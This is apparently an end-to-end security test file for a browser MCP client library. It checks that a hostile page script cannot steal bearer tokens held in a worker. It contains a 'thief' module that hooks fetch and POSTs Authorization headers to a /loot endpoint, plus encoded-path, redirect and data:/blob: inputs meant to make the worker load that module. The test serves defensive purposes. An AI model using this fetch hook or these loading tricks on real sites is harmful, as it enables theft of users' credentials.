//go:build !js

package e2e

import (
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/holdfast-mcp/holdfast/e2e/acppeer"
	"github.com/holdfast-mcp/holdfast/e2e/chrome"
	"github.com/holdfast-mcp/holdfast/e2e/oauthserver"
	"github.com/holdfast-mcp/holdfast/e2e/peer"
)

// tapScript is what a hostile script of a page does first: it changes what the module says to its worker, as
// window.hostile has it.
const tapScript = `
window.workers = [];
window.hostile = {};
{
	const { postMessage } = MessagePort.prototype;
	MessagePort.prototype.postMessage = function (data, ...more) {
		const { file, ...options } = hostile;
		if (data?.t === "hello") window.hello = data;
		if (data?.t === "connect" || data?.t === "agent") Object.assign(data.options, options);
		if (data?.t === "auth" && file) data.file = file;
		return postMessage.call(this, data, ...more);
	};
	for (const kind of ["SharedWorker", "Worker"]) {
		const real = globalThis[kind];
		globalThis[kind] = class extends real {
			constructor(url, options) {
				super(url, options);
				workers.push(String(url) + " " + options.name);
			}
		};
	}
	window.real = { SharedWorker: Object.getPrototypeOf(SharedWorker), Worker: Object.getPrototypeOf(Worker) };
}
`

// ownName is how the module starts a worker: the address has the build, and the name whose it is.
var ownName = regexp.MustCompile(`^/holdfast-worker\.mjs\?[\d.]+-\d+ holdfast [\d.]+-\d+ ([0-9a-f]{64})?$`)

// robbed is a page whose user has signed in, with the token in the worker's memory, and whose hostile script
// is after it.
type robbed struct {
	t    *testing.T
	host string
	site *chrome.Site
	page *chrome.Page
	// thief is a module that sends each token of its worker's to /loot, before the request; files are
	// addresses of it, as expressions.
	thief string
	files [][2]string

	mu    sync.Mutex
	loot  []string
	asked map[string]int
}

// newRobbed opens the page; the hostile script has named its files for what signs in before the user has.
func newRobbed(t *testing.T, host string) *robbed {
	t.Helper()
	r := &robbed{t: t, host: host, site: chrome.NewSite(t), asked: map[string]int{}}
	elsewhere := chrome.NewSite(t)
	elsewhere.Header(func(path string, h http.Header) { r.heard(path, h) })
	r.site.Header(r.heard)
	r.site.Handle("/loot", http.HandlerFunc(func(_ http.ResponseWriter, req *http.Request) {
		text, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		defer r.mu.Unlock()
		r.loot = append(r.loot, string(text))
	}))
	r.thief = `
		const { fetch: real } = globalThis;
		await real("` + r.site.URL + `/loot", { method: "POST", body: "it ran" });
		globalThis.fetch = async (url, init) => {
			const token = (url instanceof Request ? url.headers : new Headers(init?.headers)).get("authorization");
			if (token) await real("` + r.site.URL + `/loot", { method: "POST", body: token });
			return real(url, init);
		};`
	for _, path := range []string{"/evil.mjs", "/uploads/evil.mjs"} {
		r.site.File(path, r.thief)
		elsewhere.File(path, r.thief)
	}
	r.site.Handle("/moved.mjs", http.RedirectHandler("/uploads/evil.mjs", http.StatusFound))
	r.files = [][2]string{
		{"data:", `"data:text/javascript," + encodeURIComponent(` + chrome.JS(r.thief) + `)`},
		{"blob:", `URL.createObjectURL(new Blob([` + chrome.JS(r.thief) + `], { type: "text/javascript" }))`},
		{"another folder", `"/uploads/evil.mjs"`},
		{"a folder below", `"uploads/evil.mjs"`},
		{"the address of another folder", `location.origin + "/uploads/evil.mjs"`},
		{"dots that are escaped", `"%2e%2e/uploads/evil.mjs"`},
		{"a slash that is escaped", `"uploads%2fevil.mjs"`},
		{"another origin", `"` + elsewhere.URL + `/evil.mjs"`},
		{"a redirect", `"moved.mjs"`},
		{"a query", `"evil.mjs?name=1"`},
		{"a fragment", `"evil.mjs#name"`},
		{"another copy", `"holdfast-record.mjs?again=" + performance.now().toFixed()`},
		{"the worker's script", `"holdfast-worker.mjs"`},
		{"a copy of it", `"holdfast-worker.mjs?again=1"`},
	}
	s := oauthserver.Start(t)
	s.Person("ada")
	before := `window.early = [];`
	// The last is a file of the package, and not what signs in: no worker may keep it for that.
	for _, file := range append(slices.Clone(r.files), [2]string{"another file", `"holdfast-record.mjs"`}) {
		before += `
			window.hostile = { file: ` + file[1] + ` };
			early.push(await holdfast.connect(` + chrome.JS(s.URL) + `, { host: "` + host + `", auth: holdfast.oauth({ storage: "memory" }) }).then(() => "it connects", ({ message }) => message));`
	}
	before += `window.hostile = {};`
	r.page = chrome.NewProfile(t).InWindows().Open(r.site.Page("/app", tapScript+before+signInScript) +
		"#" + url.PathEscape(`{"url":`+chrome.JS(s.URL)+`,"how":{"storage":"memory","host":"`+host+`"}}`))
	r.page.WaitFor(`window.opened || window.failed`)
	return r
}

func (r *robbed) heard(path string, h http.Header) {
	h.Set("Access-Control-Allow-Origin", "*")
	r.mu.Lock()
	defer r.mu.Unlock()
	r.asked[path]++
}

// unrobbed has the user's client send a request with the token, and checks that the hostile script has got
// nothing by then.
func (r *robbed) unrobbed(t *testing.T) {
	t.Helper()
	if who := chrome.Script[string](r.page,
		`return (await mcp.callTool("pay", {}).result).content[0].text;`); who != "ada" {
		t.Errorf("the user pays as %q", who)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.loot) > 0 {
		t.Errorf("the script has got %q", r.loot)
	}
	if n := r.asked["/uploads/evil.mjs"]; n > 0 {
		t.Errorf("what it has named was fetched %d times", n)
	}
}

// loaded counts the requests for the worker's script, and for what records, which pages name here beside
// their own.
func (r *robbed) loaded() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.asked["/holdfast-worker.mjs"] + r.asked["/holdfast-record.mjs"]
}

// tries has the page do something while the hostile script changes what it says to the worker; it returns
// what came of it.
func (r *robbed) tries(hostile, script string) string {
	r.t.Helper()
	return chrome.Script[string](r.page, `
		window.row = (window.row ?? 0) + 1;
		window.hostile = `+hostile+`;
		try {
			`+script+`
		} catch (error) {
			return error.code + ": " + error.message;
		} finally {
			window.hostile = {};
		}`)
}

// TestFault722_ScriptOfThePageNamesAFile: somebody has signed in, and the token is in the memory of a worker.
// A hostile script of the page has the worker load a file of its choice, as the module lets it or in the
// module's messages: the worker loads what lies beside its own script, and wasm of its own build. The script
// gets no token. What the site itself serves beside the worker's script it has to trust.
func TestFault722_ScriptOfThePageNamesAFile(t *testing.T) {
	t.Parallel()
	for _, host := range []string{"shared", "worker"} {
		t.Run(host, func(t *testing.T) {
			t.Parallel()
			r := newRobbed(t, host)
			early := chrome.Eval[[]string](r.page, `early`)
			for i, said := range early {
				if !strings.Contains(said, "what signs in could not be loaded: ") {
					t.Errorf("what signs in, file %d: %s", i, said)
				}
			}
			if len(early) != len(r.files)+1 {
				t.Errorf("of %d files %d were tried", len(r.files)+1, len(early))
			}
			r.unrobbed(t)
			p := peer.New(t, peer.Options{})
			p.Furnish()
			uses := func(options string) string {
				return `const any = await holdfast.connect(` + chrome.JS(p.URL()) + ` + "?row=" + row, { host: "` + host + `", ` + options + ` });
					await any.listTools();
					const { code } = await any.callTool("mismeasure").result.catch((error) => error);
					await any.close();
					return code ?? "delivered";`
			}
			for _, file := range r.files {
				for what, test := range map[string]struct{ hostile, options, want string }{
					"option recorder":  {`{}`, `record: true, recorder: ` + file[1], "host_unavailable: "},
					"option validator": {`{}`, `validator: ` + file[1], "host_unavailable: "},
					"recorder": {`{ recorder: ` + file[1] + ` }`, `record: true`,
						"invalid_structured_content"},
					"validator": {`{ validator: ` + file[1] + ` }`, ``, "delivered"},
				} {
					t.Run(what+", "+file[0], func(t *testing.T) {
						before := r.loaded()
						said := r.tries(test.hostile, uses(test.options))
						// as far as the page can see
						isBeside := file[0] == "a redirect" || file[0] == "the worker's script"
						if after := r.loaded(); after != before {
							t.Errorf("files of the package were asked for %d times more", after-before)
						}
						if !strings.HasPrefix(said, test.want) && !isBeside {
							t.Errorf("got %q, want %q", said, test.want)
						}
						r.unrobbed(t)
					})
				}
			}
			t.Run("wasm", func(t *testing.T) { r.namesWasm(t) })
			t.Run("a worker of its own", func(t *testing.T) { r.startsOne(t, p.URL()) })
			for _, worker := range chrome.Eval[[]string](r.page, `workers`) {
				if !ownName.MatchString(strings.TrimPrefix(worker, r.site.URL)) {
					t.Errorf("the worker %q may be told a file", worker)
				}
			}
			// The search is not blind.
			r.tries(`{ recorder: "evil.mjs" }`, uses(`record: true`))
			chrome.Script[chrome.Void](r.page, `await mcp.callTool("pay", {}).result;`)
			r.mu.Lock()
			defer r.mu.Unlock()
			if !slices.ContainsFunc(r.loot,
				func(text string) bool { return strings.HasPrefix(text, "Bearer ") }) {
				t.Errorf("what lies beside the worker's script gets %q", r.loot)
			}
		})
	}
}

// namesWasm has the hostile script name a wasm, which is an agent's since the page has that of MCP.
func (r *robbed) namesWasm(t *testing.T) {
	ours := read(t, "../web/dist/holdfast-agents.wasm")
	elsewhere := chrome.NewSite(t)
	elsewhere.Header(func(_ string, h http.Header) { h.Set("Access-Control-Allow-Origin", "*") })
	for path, text := range map[string]string{
		"same.wasm":  strings.Replace(ours, "initialize", "initialise", 1),
		"other.wasm": strings.Replace(ours, "holdfast-wasm/0", "holdfast-wasm/9", 1)} {
		if text == ours {
			t.Fatal("nothing was changed")
		}
		r.site.File("/uploads/"+path, text)
	}
	agent := acppeer.New(t, acppeer.Options{}).URL()
	const bytes = `new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])`
	for _, row := range []struct{ name, hostile, options, want string }{
		{"option data:", `{}`, `wasm: "data:application/wasm;base64,AGFzbQEAAAA="`,
			"host_unavailable: connectAgent: a worker fetches the wasm over http"},
		{"data:", `{ wasm: "data:application/wasm;base64,AGFzbQEAAAA=" }`, ``,
			"takes none from data:application/wasm"},
		{"blob:", `{ wasm: URL.createObjectURL(new Blob([` + bytes + `], { type: "application/wasm" })) }`,
			``, "takes none from blob:"},
		{"bytes", `{ wasm: ` + bytes + ` }`, ``, "takes none from a page"},
		{"a module", `{ wasm: new WebAssembly.Module(` + bytes + `) }`, ``, "takes none from a page"},
		{"of the same version", `{ wasm: location.origin + "/uploads/same.wasm" }`, ``,
			", of another build, the script is version "},
		{"of another version", `{ wasm: location.origin + "/uploads/other.wasm" }`, ``,
			"load_failed: load: the wasm is version 9."},
		{"none", `{ wasm: location.origin + "/uploads/evil.wasm" }`, ``,
			"the server answered 404 for the wasm at " + r.site.URL + "/…/evil.wasm"},
		{"ours, from another origin", `{ wasm: "` + elsewhere.URL + `/holdfast-agents.wasm" }`, ``, "open"},
	} {
		if row.name == "a module" && r.host == "shared" {
			continue // none can be sent there
		}
		said := r.tries(row.hostile, `return (await (await import("/holdfast-agent.mjs")).connectAgent(`+
			chrome.JS(agent)+`, { host: "`+r.host+`", `+row.options+` })).state;`)
		if !strings.Contains(said, row.want) {
			t.Errorf("%s: got %q, want %q", row.name, said, row.want)
		}
		r.unrobbed(t)
	}
}

// startsOne has the hostile script start a worker by itself, with an address and a name that name files.
func (r *robbed) startsOne(t *testing.T, server string) {
	said := r.tries(`{}`, `
		const { port1, port2 } = new MessageChannel();
		const [url, options] = ["/holdfast-worker.mjs?recorder=/uploads/evil.mjs&wasm=/uploads/evil.wasm", { type: "module", name: hello.build + ' ["/uploads/evil.mjs","/uploads/evil.wasm"]' }];
		const port = "`+r.host+`" === "shared" ? new real.SharedWorker(url, options).port : (new real.Worker(url, options).postMessage(0, [port2]), port1);
		const says = new Promise((resolve) => (port.onmessage = ({ data }) => data.client === 2 && /^(opened|failed)$/.test(data.t) && resolve(data)));
		port.postMessage({ ...hello, lock: "holdfast.page.hostile" });
		port.postMessage({ t: "connect", client: 2, url: `+chrome.JS(server)+` + "?own", options: { record: true }, handlers: [], token: false, again: false, ifKeys: false });
		const { t, error } = await says;
		return t + (error?.message ?? "");`)
	if said != "opened" {
		t.Errorf("got %q", said)
	}
	r.unrobbed(t)
}
